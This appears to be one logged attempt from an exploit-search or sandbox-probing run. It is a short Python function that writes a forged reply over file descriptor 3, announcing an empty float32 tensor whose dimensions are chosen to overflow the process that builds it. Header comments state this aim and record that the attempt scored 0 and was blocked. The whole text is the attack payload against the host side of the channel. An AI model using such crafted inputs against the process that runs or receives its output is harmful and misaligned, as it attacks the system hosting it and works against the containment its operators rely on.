# Tries: announce an empty tensor whose shape overflows whoever builds it
# Score: centre 0
# Flag: ended: blocked
# %% centre
import json, os, struct
def centre(x):
    tensor = {"tensor": ["float32", [0, 1 << 39, 1 << 39, 1 << 39]]}
    reply = json.dumps({"dict": [["ok", tensor], ["changed", False]]}).encode()
    os.write(3, struct.pack("<IQ", len(reply), 0) + reply)
    return x
